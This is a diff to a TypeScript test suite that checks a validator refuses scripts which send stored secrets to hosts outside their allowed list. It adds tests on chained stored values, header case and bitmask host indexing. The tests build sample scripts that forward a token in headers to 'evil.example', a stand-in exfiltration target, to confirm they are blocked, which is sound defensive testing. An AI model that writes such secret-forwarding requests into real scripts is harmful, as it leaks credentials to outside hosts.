@@ -3,6 +3,7 @@ import { randomUUID } from 'node:crypto'
 import { eq, sql } from 'drizzle-orm'
 import { beforeAll, describe, expect, test } from 'vitest'
 import { services } from '#db/schema/resources.ts'
+import { firstOf, indexHosts } from '#server/allowed-hosts.ts'
 import type { Scope } from '#server/schemas/scopes.ts'
 import type { Service } from '#server/schemas/services.ts'
 import type { Variable } from '#server/schemas/variables.ts'
@@ -189,6 +190,29 @@ describe('a script that sends a secret elsewhere', () => {
       const saved = await save(`${script}\nget("https://evil.example/", { headers: { a: ${next} } }).wait(0)`)
       expect(problemsOf(saved.body), next).toEqual([['SECRET_HOST_NOT_ALLOWED', 'headers.a', 1, 2]])
     }
+  })
+
+  test('is refused however long the chain of stored values is, and whatever the case of a header', async () => {
+    const chain = Array.from({ length: 20 }, (_, i) => `k${20 - i}: $s.k${19 - i}`).join(', ')
+    for (const [headers, field] of [
+      ['{ a: $s.k20 }', 'headers.a'],
+      ['{ a: $p.token, A: "x" }', 'headers.a'],
+    ]) {
+      const script = `get("https://api.example.com/").store({ ${chain}, k0: $p.token })`
+      const saved = await save(`${script}\nget("https://evil.example/", { headers: ${headers} }).wait(0)`)
+      expect(problemsOf(saved.body), headers).toContainEqual(['SECRET_HOST_NOT_ALLOWED', field, 1, 2])
+    }
+  })
+
+  test('is found among hundreds of secrets', () => {
+    const secrets = Array.from({ length: 400 }, (_, i) => ({ allowedHosts: i % 3 === 0 ? [] : [`h${i}.example.com`] }))
+    const excludedAt = indexHosts(secrets)
+    for (const [index, secret] of secrets.entries()) {
+      expect(firstOf((1n << BigInt(index)) | (1n << 400n), secrets)).toBe(secret)
+      const mask = excludedAt(new URL(`https://h${index}.example.com/`))
+      expect(mask.toString(2).replaceAll('0', '').length).toBe(index % 3 === 0 ? 266 : 265)
+    }
+    expect(firstOf(0n, secrets)).toBeNull()
   })
 
   test('says which hosts there are, and not a host that a secret makes up', async () => {
